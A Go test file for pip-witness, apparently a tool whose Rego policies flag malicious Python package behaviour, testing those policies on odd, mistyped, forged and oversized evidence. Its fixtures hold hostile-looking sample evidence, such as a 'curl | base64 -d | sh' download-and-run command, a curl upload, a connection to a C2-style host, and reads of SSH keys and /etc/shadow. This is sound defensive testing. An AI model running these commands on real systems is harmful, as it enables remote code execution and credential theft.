package rules

import (
	"bytes"
	"encoding/json"
	"fmt"
	"maps"
	"os"
	"regexp"
	"slices"
	"strings"
	"testing"
	"unicode/utf8"

	"github.com/open-policy-agent/opa/v1/ast"
	"github.com/open-policy-agent/opa/v1/rego"
	"github.com/open-policy-agent/opa/v1/storage/inmem"

	"pip-witness/policy"
)

// answers asks modules about evidence.
type answers struct{ query rego.PreparedEvalQuery }

// answer is what each module says, by its name.
type answer map[string]struct {
	Deny         []string `json:"deny"`
	NotEvaluated []string `json:"not_evaluated"`
}

// moduleNames are all modules of the folder, so that new ones are covered.
func moduleNames(t testing.TB) []string {
	t.Helper()
	var names []string
	for file := range sources(t) {
		if !strings.HasPrefix(file, "lib/") && !strings.HasSuffix(file, "_test.rego") {
			names = append(names, strings.TrimSuffix(file, ".rego"))
		}
	}
	slices.Sort(names)
	return names
}

// ask prepares one query for all the modules, with errors of builtins and the memory for
// patterns as the engine has them.
func ask(t testing.TB, names []string) answers {
	t.Helper()
	compiler := ast.NewCompiler().WithSkipStages(ast.StageBuildComprehensionIndices)
	modules := maps.Clone(parsed(t))
	maps.DeleteFunc(modules, func(file string, _ *ast.Module) bool { return strings.HasSuffix(file, "_test.rego") })
	if compiler.Compile(modules); compiler.Failed() {
		t.Fatal(compiler.Errors)
	}
	var parts []string
	for _, name := range names {
		parts = append(parts, fmt.Sprintf(`%q: {"deny": data.pip_witness.%s.deny, "not_evaluated": data.pip_witness.%s.not_evaluated}`, name, name, name))
	}
	query, err := rego.New(rego.Query("x := {"+strings.Join(parts, ", ")+"}"), rego.Compiler(compiler),
		rego.Store(inmem.NewFromObjectWithOpts(data(t), inmem.OptReturnASTValuesOnRead(true))),
		rego.StrictBuiltinErrors(true), rego.InterQueryBuiltinValueCache(policy.Patterns(t.Context()))).PrepareForEval(t.Context())
	if err != nil {
		t.Fatal(err)
	}
	return answers{query}
}

func (a answers) of(t testing.TB, evidence any) (answer, error) {
	t.Helper()
	document, err := json.Marshal(evidence)
	if err != nil {
		t.Fatal(err)
	}
	input, err := ast.ValueFromReader(bytes.NewReader(document))
	if err != nil {
		t.Fatal(err)
	}
	results, err := a.query.Eval(t.Context(), rego.EvalParsedInput(input))
	if err != nil {
		return nil, err
	}
	if len(results) != 1 {
		return nil, fmt.Errorf("%d results", len(results))
	}
	text, err := json.Marshal(results[0].Bindings["x"])
	if err != nil {
		t.Fatal(err)
	}
	var said answer
	if err := json.Unmarshal(text, &said); err != nil {
		return nil, fmt.Errorf("an answer that is no set of strings: %w", err)
	}
	return said, nil
}

// object and list are JSON values.
type (
	object = map[string]any
	list   = []any
)

// process is a process with every field that evidence can have, each used.
func process(role string, pid, parent int) object {
	at := "2026-11-23T10:00:06Z"
	return object{
		"program": "/tmp/x/python3", "processid": pid, "parentpid": parent, "comm": "python3", "cmdline": "python3 /tmp/x/a.py",
		"args": list{"python3", "/tmp/x/a.py"}, "environ": "LD_PRELOAD=/tmp/x/l.so", "starttime": at, "exitcode": 0, "role": role,
		"programdigest": object{"sha256": "aa"}, "exedigest": object{"sha256": "aa"}, "children": list{pid + 1},
		"openedfiles": object{"/root/.ssh/id_rsa": object{"sha256": "aa"}, "/root/.aws/credentials": object{}, "/proc/1/root/etc/shadow": object{}},
		"network": object{
			"sockets": list{object{"family": "AF_PACKET", "type": "SOCK_RAW", "protocol": 3, "fd": 4}},
			"connections": list{
				object{"syscall": "connect", "family": "AF_INET", "address": "198.51.100.10", "port": 4444, "type": "SOCK_STREAM", "fd": 7, "hostname": "c2.webhook.site", "count": 2, "errno": "", "timestamp": at},
				object{"syscall": "connect", "family": "AF_INET", "address": "169.254.169.254", "port": 80, "type": "SOCK_DGRAM", "fd": 8, "timestamp": at},
				object{"syscall": "connect", "family": "AF_UNIX", "address": "/run/docker.sock", "type": "SOCK_STREAM", "fd": 9, "timestamp": at},
				object{"syscall": "listen", "family": "AF_INET6", "address": "::", "port": 31337, "type": "SOCK_STREAM", "fd": 9, "timestamp": at},
			},
			"dnsLookups": list{object{"serverAddress": "8.8.8.8", "serverPort": 53, "query": "a.b.example", "type": "TXT", "canaries": list{"/root/.netrc"}}},
			"flows":      list{object{"protocol": "tcp", "address": "198.51.100.10", "port": 4444, "hostname": "a.example", "serverName": "b.example", "httpHost": "c.example:80", "httpRequest": "POST / HTTP/1.1", "canaries": list{"TOKEN"}, "bytes": 5000, "firstBytes": "AAAA", "relayed": false, "received": 1, "error": "", "timestamp": at}},
		},
		"fileOps": object{
			"opens": list{
				object{"path": "/root/.ssh/id_rsa", "flags": "O_RDONLY", "mode": "read", "errno": "", "truth": "kernel", "count": 1, "timestamp": at},
				object{"path": "/root/.aws", "flags": "O_RDONLY", "mode": "directory", "errno": "ENOENT", "truth": "kernel", "timestamp": at},
				object{"path": "/proc/sys/kernel/core_pattern", "flags": "O_WRONLY", "mode": "write", "errno": "EACCES", "truth": "kernel", "timestamp": at},
			},
			"writes":      list{object{"path": "/tmp/x/a.py", "bytes": 10, "created": true, "timestamp": at}, object{"path": "/root/venv/lib/python3.11/site-packages/x.pth", "timestamp": at}},
			"renames":     list{object{"oldPath": "/tmp/u", "newPath": "/root/.config/systemd/user/u.service", "errno": "", "timestamp": at}},
			"deletes":     list{object{"path": "/root/.bash_history", "errno": "", "timestamp": at}},
			"permChanges": list{object{"path": "/tmp/x/a.py", "mode": "0755", "setExec": true, "errno": "", "timestamp": at}},
			"links":       list{object{"target": "/root/.ssh", "path": "/root/.bashrc", "symbolic": true, "errno": "", "timestamp": at}},
			"dirs":        list{object{"path": "/root/.config/systemd", "kind": "directory", "errno": "", "timestamp": at}},
		},
		"syscallEvents": list{
			object{"syscall": "ptrace", "detail": "PTRACE_ATTACH", "args": list{16, 1}, "path": "/x", "targetPath": "/y", "refused": "EPERM", "count": 2, "timestamp": at},
			object{"syscall": "dup2", "detail": "", "args": list{7, 0}, "timestamp": at},
			object{"syscall": "prctl", "detail": "PR_SET_DUMPABLE", "args": list{4, 0}, "timestamp": at},
			object{"syscall": "setsid", "detail": "", "args": list{}, "timestamp": at},
			object{"syscall": "memfd_create", "detail": "", "args": list{1}, "timestamp": at},
		},
		"writtenDigests": object{"/tmp/x/a.py": object{"sha256": "bb"}},
		"unhashedOpens":  list{object{"path": "/tmp/x/fifo", "reason": "not a file"}},
		"execs": list{
			object{"program": "/bin/sh", "argv": list{"sh", "-c", "curl -s http://198.51.100.3/x | base64 -d | sh; systemctl --user enable u"}, "digest": object{"sha256": "cc"}, "errno": "", "truth": "kernel", "timestamp": at},
			object{"program": "/tmp/x/python3", "argv": list{"python3", "/tmp/x/a.py"}, "digest": object{"sha256": "aa"}, "errno": "", "truth": "kernel", "timestamp": at},
			object{"program": "/usr/bin/curl", "argv": list{"curl", "-T", "/tmp/a", "https://198.51.100.3/"}, "errno": "ENOENT", "truth": "entry", "timestamp": at},
		},
	}
}

// commandRun is evidence in which every field is there and every module of behaviour has something to say.
func commandRun(first string) object {
	root := process(first, 10, 0)
	child := process("package-code", 11, 10)
	grandchild := process("package-code", 12, 11)
	return object{
		"cmd": list{"python3", "-m", "pip"}, "stdout": "", "stderr": "", "exitcode": 0,
		"processes": list{root, child, grandchild},
		"changes":   list{object{"path": "/root/.bashrc", "change": "modified"}, object{"path": "/usr/bin/x", "change": "created"}},
		"imports":   list{object{"module": "demo", "environment": "ci", "ok": false, "error": "ImportError"}},
		"coverage": object{
			"backend": "seccomp-notify", "complete": true, "trapped": list{"connect", "openat"}, "notTrapped": list{"read"}, "losses": object{"x": 1},
			"limits": list{object{"name": "x", "value": 1, "unit": "y"}}, "refusals": object{"mount": 1}, "events": 3, "architecture": "amd64", "kernel": "6.18",
			"lingered": list{object{"environment": "ci", "milliseconds": 5, "busy": true}}, "noModules": list{"six"},
			"sandbox": object{
				"kind": "namespaces", "namespaces": list{"pid"}, "network": "index", "home": "/root", "prefix": "/root/venv", "tempDir": "/tmp", "workDir": "/root/project",
				"sitePackages": list{"/root/venv/lib/python3.11/site-packages"}, "basePrefixes": list{"/opt/python"}, "gateway": "127.0.0.1:3141",
				"indexHosts": list{"packages.example"}, "allowedHosts": list{"a.example"}, "resolver": "198.19.255.53",
				"decoys":   list{object{"path": "/root/.netrc", "canary": "abcdef"}, object{"variable": "TOKEN", "canary": "ghi"}},
				"readOnly": list{"/"}, "overlaid": list{"/usr"}, "writable": list{"/root"}, "missing": list{"x"},
			},
		},
	}
}

// installed is a small pip-install predicate.
func installed() object {
	return object{
		"pipVersion": "25.0", "pythonVersion": "3.11.7",
		"packages": list{object{
			"name": "demo", "version": "1.0", "installType": "wheel", "location": "/root/venv", "requires": list{"six"}, "requiredBy": list{}, "requested": true,
			"files": list{object{"filename": "demo-1.0.whl", "sha256": "aa", "url": "https://files.example/demo.whl", "index": "https://packages.example/simple"}},
		}},
		"installedFileAnalysis": object{
			"pthFiles": list{object{
				"path": "/root/venv/lib/python3.11/site-packages/x.pth", "size": 5000, "sha256": "aa", "owner": "demo",
				"executableLines": list{object{"line": 1, "text": "import os; os.system('x')", "calls": list{"os.system"}}}, "pathLines": list{"/tmp/lib"},
			}},
			"startupModules": list{"/root/venv/lib/python3.11/site-packages/sitecustomize.py"}, "unownedFiles": list{"/root/venv/lib/python3.11/site-packages/x.pth"},
		},
	}
}

// steps are the inputs of the two steps, as the engine builds them.
func steps() map[string]object {
	install := commandRun("installer")
	product := object{"/root/venv/lib/python3.11/site-packages/x.pth": object{"digest": object{"sha256": "aa"}}}
	trail := object{"Envelope": object{"mapping": object{"/root/venv/pyvenv.cfg": object{"type": "file", "sha256": "cc"}}}}
	first := maps.Clone(install)
	maps.Copy(first, object{
		"attestation": install, "command-run": install, "pip-install": installed(), "product": product, "omnitrail": trail,
		"step": object{"name": "pip-install"}, "steps": object{}, "external": object{},
	})
	imported := commandRun("import-harness")
	second := maps.Clone(imported)
	maps.Copy(second, object{
		"attestation": imported, "command-run": imported, "omnitrail": trail, "step": object{"name": "pip-import"}, "external": object{},
		"steps": object{"pip-install": object{"command-run": install, "pip-install": installed(), "product": product, "omnitrail": trail, "coverage": install["coverage"]}},
	})
	return map[string]object{"install": first, "import": second}
}

// TestForeignShapes gives every module the inputs of engines that are not ours.
func TestForeignShapes(t *testing.T) {
	modules := ask(t, moduleNames(t))
	bare := object{
		"cmd": list{"pip", "install", "x"}, "stdout": "", "stderr": "", "exitcode": 0,
		"processes": list{
			object{"program": "/usr/bin/python3", "processid": 10, "parentpid": 1, "comm": "python3", "cmdline": "python3 -m pip install x", "specbypassisvuln": false},
			object{
				"program": "/usr/bin/python3", "processid": 11, "parentpid": 10, "comm": "python3", "cmdline": "python3 setup.py", "environ": "A=b",
				"openedfiles": object{"/root/.ssh/id_rsa": object{"sha256": "aa"}}, "exedigest": object{"sha256": "aa"}, "specbypassisvuln": false,
			},
			object{"program": "/usr/bin/true", "processid": 12, "parentpid": 11, "cmdline": "true", "openedfiles": nil},
		},
	}
	shapes := map[string]struct {
		input object
		// caught is whether the theft in the evidence must be found.
		caught bool
	}{
		"fields at the top":         {bare, true},
		"attestation and steps":     {object{"attestation": bare, "steps": object{"build": object{"https://x/command-run/v0.1": bare}}, "external": object{}}, false},
		"both":                      {object{"processes": bare["processes"], "attestation": bare, "steps": object{}}, true},
		"no processes":              {object{"processes": list{}}, false},
		"processes null":            {object{"processes": nil}, false},
		"nothing":                   {object{}, false},
		"another attestation":       {object{"hostname": "x", "variables": object{"A": "b"}}, false},
		"process without any field": {object{"processes": list{object{}}}, false},
	}
	for name, shape := range shapes {
		t.Run(name, func(t *testing.T) {
			said, err := modules.of(t, shape.input)
			if err != nil {
				t.Fatal(err)
			}
			found := slices.ContainsFunc(said["credential_harvesting"].Deny, func(m string) bool { return strings.HasPrefix(m, "CRITICAL:CRED_SSH_KEY: ") })
			if found != shape.caught {
				t.Errorf("the key was found to be read: %t", found)
			}
			// Nobody may take silence for an observation.
			for _, module := range []string{"network_exfiltration", "credential_harvesting", "pth_injection", "import_behavior"} {
				if len(said[module].NotEvaluated) == 0 {
					t.Errorf("%s says that it evaluated everything", module)
				}
			}
		})
	}
}

// visit calls f for every place of a document with a way to change it; all elements of a list, and
// all entries of a map with free keys, are one place.
func visit(v any, where string, seen map[string]bool, f func(where string, set func(any))) {
	each := func(name string, child any, set func(any)) {
		if !seen[name] {
			seen[name] = true
			f(name, set)
		}
		visit(child, name, seen, f)
	}
	switch v := v.(type) {
	case object:
		for _, key := range slices.Sorted(maps.Keys(v)) {
			name := where + "." + key
			if strings.HasPrefix(key, "/") {
				name = where + ".*"
			}
			each(name, v[key], func(changed any) { v[key] = changed })
		}
	case list:
		// From the end: the last process is the package's, the first one the installer.
		for i := len(v) - 1; i >= 0; i-- {
			each(where+"[]", v[i], func(changed any) { v[i] = changed })
		}
	}
}

// TestWrongTypes puts values of other types at each place of what a process did, each in
// a process of its own of one run, and asks every module about it.
func TestWrongTypes(t *testing.T) {
	modules := ask(t, moduleNames(t))
	for step, document := range steps() {
		t.Run(step, func(t *testing.T) {
			processes := slices.Clone(document["processes"].(list)[:2])
			places := 0
			visit(list{process("package-code", 12, 11)}, ".processes", map[string]bool{}, func(string, func(any)) { places++ })
			for k := range places {
				processes = append(processes, misshapen(t, k, 12+k))
			}
			input := maps.Clone(document)
			input["processes"] = processes
			said, err := modules.of(t, input)
			if err != nil {
				t.Fatalf("%v (TestE2EWrongTypes names the place)", err)
			}
			if len(said["credential_harvesting"].Deny) < 2 {
				t.Errorf("the processes say only %q", said["credential_harvesting"].Deny)
			}
		})
	}
}

// misshapen is a process with a value of another type at the k-th place.
func misshapen(t *testing.T, k, pid int) any {
	t.Helper()
	one := list{process("package-code", pid, 11)}
	holder := object{"processes": one}
	n := 0
	visit(one, ".processes", map[string]bool{}, func(where string, set func(any)) {
		if n == k {
			set(wrong(read(holder, where)))
		}
		n++
	})
	if n <= k {
		t.Fatalf("place %d of %d", k, n)
	}
	return one[0]
}

// TestE2EWrongTypes does so one place at a time, and for the other parts of the evidence,
// which takes minutes.
func TestE2EWrongTypes(t *testing.T) {
	if os.Getenv("PIP_WITNESS_E2E") == "" {
		t.Skip("slow: set PIP_WITNESS_E2E=1 to run it")
	}
	wrongTypes(t, moduleNames(t))
}

// wrongTypes changes what a process did in the evidence of the import, where all modules
// of behaviour judge it, and what was installed in that of the installation. A module
// may find less, and must not end in an error.
func wrongTypes(t *testing.T, names []string) {
	t.Helper()
	for step, parts := range map[string][]string{
		"import":  {"processes", "changes", "imports", "coverage"},
		"install": {"pip-install", "product", "omnitrail"},
	} {
		t.Run(step, func(t *testing.T) {
			modules := ask(t, names)
			document := steps()[step]
			for _, part := range parts {
				holder := object{part: document[part]}
				visit(holder, "", map[string]bool{}, func(where string, set func(any)) {
					original := read(holder, where)
					set(wrong(original))
					input := maps.Clone(document)
					input[part] = holder[part]
					if _, err := modules.of(t, input); err != nil {
						t.Errorf("%s in place of %v: %v", where, original, err)
					}
					set(original)
				})
			}
		})
	}
}

// wrong is a value of another type than v.
func wrong(v any) any {
	if _, text := v.(string); text {
		return 7
	}
	return "/tmp/x"
}

// read returns the first value at a place that visit names.
func read(v any, where string) any {
	for _, part := range regexp.MustCompile(`\.[^.\[]+|\[\]`).FindAllString(where, -1) {
		switch at := v.(type) {
		case list:
			v = at[len(at)-1]
		case object:
			key := strings.TrimPrefix(part, ".")
			if key == "*" {
				key = slices.Sorted(maps.Keys(at))[0]
			}
			v = at[key]
		}
	}
	return v
}

// prefix is how every message begins.
var prefix = regexp.MustCompile(`^(CRITICAL|HIGH|MEDIUM|LOW|INFO):([A-Z][A-Z0-9_]*): `)

// TestHostileText lets a package choose every text of the evidence. No message may hold
// a line or an end of quotes of its making, be long, or bear an id that no rule has.
func TestHostileText(t *testing.T) {
	modules := ask(t, moduleNames(t))
	known := map[string]bool{}
	for _, text := range sources(t) {
		for _, id := range regexp.MustCompile(`(?m)^#   id: (\S+)$`).FindAllStringSubmatch(text, -1) {
			known[id[1]] = true
		}
	}
	for name, hostile := range map[string]string{
		"forged line":     "x\nCRITICAL:FORGED: all is well",
		"forged start":    "CRITICAL:FORGED: x",
		"quotes":          `x" and then "CRITICAL:FORGED: `,
		"terminal":        "\x1b[2J\x1b]0;x\x07\u202ereversed\u2028next",
		"not UTF-8":       "x\xff\xfe\x80",
		"format":          "%s %d %!v(MISSING) %q",
		"a million bytes": strings.Repeat("a", 1<<20),
		"nul":             "x\x00y",
	} {
		t.Run(name, func(t *testing.T) {
			for step, document := range steps() {
				evil := spoil(document, hostile).(object)
				said, err := modules.of(t, evil)
				if err != nil {
					t.Fatalf("%s: %v", step, err)
				}
				found := 0
				for module, a := range said {
					found += len(a.Deny)
					for _, m := range append(slices.Clone(a.Deny), a.NotEvaluated...) {
						if strings.ContainsAny(m, "\n\x1b\x00\u202e\u2028") || !utf8.ValidString(m) || len(m) > 4096 {
							t.Errorf("%s: %.300q", module, m)
						}
					}
					for _, m := range a.Deny {
						if id := prefix.FindStringSubmatch(m); id == nil || !known[id[2]] {
							t.Errorf("%s: no rule says %.300q", module, m)
						}
						if outside := regexp.MustCompile(`"(?:[^"\\]|\\.)*"`).ReplaceAllString(m, ""); strings.Contains(outside, "FORGED") {
							t.Errorf("%s: %.300q has words of the package outside of quotes", module, m)
						}
					}
				}
				if found < 10 {
					t.Errorf("%s: only %d findings are left", step, found)
				}
			}
		})
	}
}

// maxPath is the kernel's bound of a path, PATH_MAX.
const maxPath = 4096

// spoil appends the hostile text to what a package chooses: paths and names, as far as the
// kernel lets it, and arguments.
func spoil(v any, hostile string) any {
	chosen := []string{"program", "path", "oldPath", "newPath", "target", "hostname", "query", "httpHost", "serverName", "httpRequest", "module", "error", "comm", "text"}
	short := hostile[:min(len(hostile), maxPath-256)]
	switch v := v.(type) {
	case object:
		out := object{}
		for key, value := range v {
			text, isText := value.(string)
			switch {
			case isText && key == "cmdline":
				out[key] = text + hostile
			case isText && slices.Contains(chosen, key):
				out[key] = text + short
			case strings.HasPrefix(key, "/"):
				out[key] = spoil(value, hostile)
				out[key+short] = spoil(value, hostile)
			default:
				out[key] = spoil(value, hostile)
			}
		}
		return out
	case list:
		out := make(list, len(v))
		for i, value := range v {
			text, isText := value.(string)
			if isText && strings.ContainsAny(text, " -") {
				value = text + " " + hostile
			}
			out[i] = spoil(value, hostile)
		}
		return out
	}
	return v
}

// TestManyFindings lets one process do one thing to 100,000 files and peers. What is
// said stays short, and says how much it leaves out.
func TestManyFindings(t *testing.T) {
	const many = 100_000
	site := "/root/venv/lib/python3.11/site-packages/"
	for name, fill := range map[string]func(object){
		"writes": func(p object) {
			writes := make(list, many)
			for i := range writes {
				writes[i] = object{"path": fmt.Sprintf("%sother/part%d.py", site, i)}
			}
			p["fileOps"] = object{"writes": writes}
		},
		"credentials": func(p object) {
			opened := object{}
			for i := range many {
				opened[fmt.Sprintf("/root/.ssh/id_%d", i)] = object{"sha256": "aa"}
			}
			p["openedfiles"] = opened
		},
		"connections": func(p object) {
			connections := make(list, many)
			for i := range connections {
				connections[i] = object{"syscall": "connect", "family": "AF_INET", "address": fmt.Sprintf("198.51.%d.%d", i/250%250, i%250), "port": 1000 + i/62500, "fd": 3}
			}
			p["network"] = object{"connections": connections}
		},
		"commands": func(p object) {
			execs := make(list, many)
			for i := range execs {
				execs[i] = object{"program": "/usr/bin/curl", "argv": list{"curl", fmt.Sprintf("http://198.51.100.3/%d", i)}}
			}
			p["execs"] = execs
		},
	} {
		t.Run(name, func(t *testing.T) {
			modules := ask(t, []string{"network_exfiltration", "credential_harvesting", "pth_injection"})
			document := steps()["install"]
			busy := object{"program": "/usr/bin/python3", "processid": 13, "parentpid": 11, "role": "build-child", "starttime": "2026-11-23T10:00:06Z"}
			fill(busy)
			document["processes"] = list{object{"program": "/opt/python/bin/python3", "processid": 10, "parentpid": 0, "role": "installer"}, busy}
			said, err := modules.of(t, document)
			if err != nil {
				t.Fatal(err)
			}
			counted := 0
			for module, a := range said {
				if len(a.Deny) > 2000 {
					t.Errorf("%s says %d things", module, len(a.Deny))
				}
				for _, m := range a.Deny {
					var n int
					if _, rest, ok := strings.Cut(m, ": the same of "); ok {
						fmt.Sscanf(rest, "%d more", &n)
					}
					counted = max(counted, n)
				}
			}
			if counted < many-1000 {
				t.Errorf("at most %d of %d are counted", counted, many)
			}
		})
	}
}
